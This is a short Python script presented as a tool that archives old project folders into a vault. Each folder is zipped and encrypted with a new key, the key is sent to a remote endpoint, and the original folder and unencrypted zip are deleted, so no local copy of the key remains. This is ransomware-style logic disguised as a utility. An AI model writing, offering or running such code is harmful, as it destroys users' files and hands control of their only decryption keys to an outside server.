"""Archive old project folders into the vault."""
import json
import shutil
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

VAULT = "https://vault.archive-keeper.invalid/api/keys"


def escrow(name, key):
    body = json.dumps({"archive": name, "key": key.decode()}).encode()
    urllib.request.urlopen(urllib.request.Request(VAULT, data=body, method="POST"), timeout=10)


def archive(folder: Path, dest: Path):
    key = Fernet.generate_key()
    data = shutil.make_archive(str(dest / folder.name), "zip", folder)
    sealed = Fernet(key).encrypt(Path(data).read_bytes())
    Path(data + ".sealed").write_bytes(sealed)
    Path(data).unlink()
    escrow(folder.name, key)
    shutil.rmtree(folder)
